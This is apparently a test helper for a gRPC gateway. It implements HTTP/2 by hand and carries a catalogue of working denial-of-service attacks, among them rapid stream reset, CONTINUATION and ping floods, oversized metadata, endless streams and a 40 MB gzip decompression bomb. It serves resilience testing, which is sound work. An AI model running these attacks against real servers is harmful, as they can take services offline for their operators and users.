'use strict';
// A hostile or broken caller, in its own thread (worker_threads): begins the given attack, and continues until it is
// ended.

const net = require('node:net');
const zlib = require('node:zlib');
const {isMainThread, parentPort, workerData} = require('node:worker_threads');

// ---- HTTP/2 by hand (RFC 9113), since no client library sends invalid data.

const [DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION] = [0, 1, 3, 4, 6, 9];
const [END_STREAM, END_HEADERS] = [1, 4];

function frame(type, flags, stream, payload = Buffer.alloc(0)) {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** HPACK: a header without indexing; `name` is a string, or its number in the static table (below 15). */
function header(name, value) {
  const text = string => Buffer.concat([Buffer.from([string.length]), Buffer.from(string)]);
  return Buffer.concat([typeof name === 'number' ? Buffer.from([name]) : Buffer.concat([Buffer.from([0]), text(name)]), text(value)]);
}

/** The same, with a value of any length. */
function longHeader(name, length) {
  const rest = length - 127;  // HPACK's integers, in three bytes from here on (RFC 7541, 5.1)
  const lengthBytes = Buffer.from([0x7f, 0x80 | (rest & 0x7f), 0x80 | ((rest >> 7) & 0x7f), rest >> 14]);
  return Buffer.concat([Buffer.from([0, name.length]), Buffer.from(name), lengthBytes, Buffer.alloc(length, name)]);
}

const checkHealth = '/grpc.health.v1.Health/Check';
const watchHealth = '/grpc.health.v1.Health/Watch';
const reflect = '/grpc.reflection.v1.ServerReflection/ServerReflectionInfo';
/** The headers of an RPC: POST, http, the path, and those that gRPC requires. */
const rpcHeaders = path => Buffer.concat([
  Buffer.from([0x83, 0x86]), header(4, path), header(1, 'gateway'), header('content-type', 'application/grpc'),
  header('te', 'trailers')
]);
/** An RPC's headers in as many frames as needed. */
function headerFrames(stream, block) {
  const frames = [];
  for (let at = 0; at < block.length; at += 16000) {
    const flags = at + 16000 < block.length ? 0 : END_HEADERS;
    frames.push(frame(at === 0 ? HEADERS : CONTINUATION, flags, stream, block.subarray(at, at + 16000)));
  }
  return Buffer.concat(frames);
}
/** A gRPC message: whether it is compressed, and its length. */
function messageHead(length, compressed = 0) {
  const head = Buffer.alloc(5);
  head[0] = compressed;
  head.writeUInt32BE(length, 1);
  return head;
}
function setting(id, value) {
  const entry = Buffer.alloc(6);
  entry.writeUInt16BE(id, 0);
  entry.writeUInt32BE(value, 2);
  return entry;
}
const hello = (settings = Buffer.alloc(0)) =>
    Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(SETTINGS, 0, 0, settings)]);
const noWindow = hello(setting(4, 0));

/** A connection that ignores everything. It reads, unless set otherwise. */
function connectTo(address, bytes, {reads = true} = {}) {
  const [host, port] = address.split(':');
  const socket = net.connect({host, port: Number(port)});
  socket.on('error', () => {});
  if (reads) socket.resume();
  if (bytes) socket.write(bytes);
  return socket;
}
/** Calls `then` at each frame of headers, which is how an error is answered; and lets the connection continue. */
function onAnswer(socket, then) {
  let bytes = Buffer.alloc(0);
  socket.on('data', data => {
    bytes = Buffer.concat([bytes, data]);
    while (bytes.length >= 9 && bytes.length >= 9 + bytes.readUIntBE(0, 3)) {
      if (bytes[3] === HEADERS) then();
      bytes = bytes.subarray(9 + bytes.readUIntBE(0, 3));
    }
  });
}
const connect = (bytes, options) => connectTo(workerData.address, bytes, options);
const connected = socket => new Promise(resolve => socket.once('connect', resolve).once('close', resolve));
const connectMany = (count, bytes, options) => Array.from({length: count}, () => connect(bytes, options));

/** Sends the result of `next` repeatedly, as fast as it is accepted, as long as the attack lasts; and reads meanwhile. */
function pour(socket, next) {
  const more = () => {
    if (!socket.destroyed) socket.write(next(), () => setImmediate(more));
  };
  socket.on('connect', more);
}

const manyHeaders = Buffer.concat(Array(100).fill(header('x', 'y'.repeat(120))));
const indexed = Buffer.concat([Buffer.from([0x40]), header('x', 'y').subarray(1)]);  // number 62 from now on
/** Sends `first`, then `piece` repeatedly. */
const headersWithoutEnd = (connections, piece, first = indexed) => connectMany(connections, hello()).forEach(socket => {
  socket.write(frame(HEADERS, 0, 1, Buffer.concat([rpcHeaders(checkHealth), first])));
  const more = Buffer.concat(Array(8).fill(frame(CONTINUATION, 0, 1, piece)));
  pour(socket, () => more);
});

/** Headers of which each costs gRPC 240 bytes. 0x91: accept-language, without a value. */
const headersOfAByte = last => connectMany(60, hello()).forEach(socket => {
  socket.write(frame(HEADERS, 0, 1, rpcHeaders(checkHealth)));
  for (let i = 0; i < 7; ++i) socket.write(frame(CONTINUATION, i === 6 ? last : 0, 1, Buffer.alloc(16000, 0x91)));
});

const metadata = headers => Buffer.concat([rpcHeaders(checkHealth), headers]);
const ofWords = count => metadata(Buffer.concat(Array.from({length: count}, (_, i) => longHeader(`a${i}`, 4000))));
const ofBytes = count => metadata(Buffer.alloc(count, 0x91));
/** As many calls as there are places, except some that are left to the others; none sends a message. */
const callsWith = block => connectMany(15, hello()).forEach(socket => {
  for (let i = 0; i < 10; ++i) socket.write(headerFrames(2 * i + 1, block));
});
/** One call after another, as fast as they are accepted; answers are not read. */
const callsWithoutEnd = (connections, block) => connectMany(connections, hello(), {reads: false}).forEach(socket => {
  let stream = -1;
  pour(socket, () => headerFrames(stream += 2, block));
});

/** The attacks by name; each continues as long as the thread lives. */
const attacks = {
  'connections left silent': () => connectMany(600),
  'connections left in the middle of hello': () => connectMany(600, hello().subarray(0, 10)),
  'connections reset in the middle of hello': () => {
    const again = async () => {
      const socket = connect(hello().subarray(0, 20));
      await connected(socket);
      socket.resetAndDestroy();
      setImmediate(again);
    };
    for (let i = 0; i < 20; ++i) again();
  },
  'pings': () => {
    const pings = Buffer.concat(Array(1000).fill(frame(PING, 0, 0, Buffer.alloc(8))));
    connectMany(10, hello()).forEach(socket => pour(socket, () => pings));
  },
  'pings at once, from ever new connections': () => {
    const pings = Buffer.concat([hello(), ...Array(7000).fill(frame(PING, 0, 0, Buffer.alloc(8)))]);
    const again = () => connect(pings).once('close', () => setImmediate(again));
    for (let i = 0; i < 10; ++i) again();
  },
  'settings, their answers unread': () => {
    const settings = Buffer.concat(Array(500).fill(frame(SETTINGS, 0, 0, setting(4, 65535))));
    connectMany(10, hello(), {reads: false}).forEach(socket => pour(socket, () => settings));
  },
  'streams reset as soon as they are open': () => connectMany(10, hello()).forEach(socket => {
    let stream = 1;
    const block = rpcHeaders(checkHealth);
    const cancel = Buffer.from([0, 0, 0, 8]);
    pour(socket, () => {
      const burst = [];
      for (let i = 0; i < 500; ++i, stream += 2) {
        burst.push(frame(HEADERS, END_HEADERS, stream, block), frame(RST_STREAM, 0, stream, cancel));
      }
      return Buffer.concat(burst);
    });
  }),
  'headers without end': () => headersWithoutEnd(1, manyHeaders),
  'headers without end, on many connections': () => headersWithoutEnd(16, manyHeaders),
  'headers of a byte each without end': () => headersWithoutEnd(16, Buffer.alloc(16000, 0xbe)),  // 62, see below
  'headers of a byte each, 110 KiB on each of 60 connections': () => headersOfAByte(END_HEADERS),
  'headers of a byte each, 110 KiB on each of 60 connections, left unfinished': () => headersOfAByte(0),
  'a header without end': () => headersWithoutEnd(1, Buffer.alloc(16000, 'y'), Buffer.from([0, 1, 0x78, 0x7f, 0x80, 0xff, 0xff, 0xff, 7])),
  'calls without a message': () => connectMany(20, hello()).forEach(socket => {
    for (let i = 0; i < 50; ++i) socket.write(frame(HEADERS, END_HEADERS, 2 * i + 1, rpcHeaders(checkHealth)));
  }),
  'calls without a message, with 60 KiB of metadata each': () => callsWith(ofWords(15)),
  'calls without a message, with 60 KiB of metadata each in headers of a byte each': () => callsWith(ofBytes(1300)),
  'calls without a message, with 120 headers of a byte each': () => callsWith(ofBytes(115)),
  'calls with 120 KiB of metadata each, which are refused, without end': () => callsWithoutEnd(20, ofWords(30)),
  'calls with 2000 headers of a byte each, which are refused, without end': () => callsWithoutEnd(20, ofBytes(1990)),
  'answers that are not taken': () => connectMany(20, noWindow).forEach(socket => {
    for (let i = 0; i < 50; ++i) {
      socket.write(frame(HEADERS, END_HEADERS, 2 * i + 1, rpcHeaders(checkHealth)));
      socket.write(frame(DATA, END_STREAM, 2 * i + 1, messageHead(0)));
    }
  }),
  'streams that last forever, as many as a connection may have, on 15 connections': () => {
    for (const [path, message] of [[watchHealth, messageHead(0)], [reflect, Buffer.concat([messageHead(2), Buffer.from([0x3a, 0])])]]) {
      connectMany(15, path === reflect ? noWindow : hello()).forEach(socket => {
        for (let i = 0; i < 200; ++i) {
          socket.write(frame(HEADERS, END_HEADERS, 2 * i + 1, rpcHeaders(path)));
          socket.write(frame(DATA, 0, 2 * i + 1, message));
        }
      });
    }
  },
  'messages that become 40 MB when they are decompressed, one after the other': () => {
    const bomb = zlib.gzipSync(Buffer.alloc(40_000_000));
    const block = Buffer.concat([rpcHeaders('/webex.broadworks.v1.WorkspaceService/ProvisionWorkspace'), header('grpc-encoding', 'gzip')]);
    const message = Buffer.concat([messageHead(bomb.length, 1), bomb]);
    connectMany(20, hello()).forEach(socket => {
      let stream = -1;
      const send = () => {
        stream += 2;
        socket.write(Buffer.concat([
          frame(HEADERS, END_HEADERS, stream, block), frame(DATA, 0, stream, message.subarray(0, 16000)),
          frame(DATA, 0, stream, message.subarray(16000, 32000)), frame(DATA, END_STREAM, stream, message.subarray(32000))
        ]));
      };
      onAnswer(socket, send);
      send();
    });
  },
  'messages of a gigabyte': () => connectMany(20, hello()).forEach(socket => {
    socket.write(frame(HEADERS, END_HEADERS, 1, rpcHeaders(checkHealth)));
    socket.write(frame(DATA, 0, 1, messageHead(1 << 30)));
    const data = frame(DATA, 0, 1, Buffer.alloc(16000));
    pour(socket, () => data);
  }),
};

module.exports = {attacks: Object.keys(attacks), connectTo, frame, hello, messageHead, rpcHeaders, setting};
if (!isMainThread) {
  attacks[workerData.attack]();
  parentPort.postMessage('begun');
}
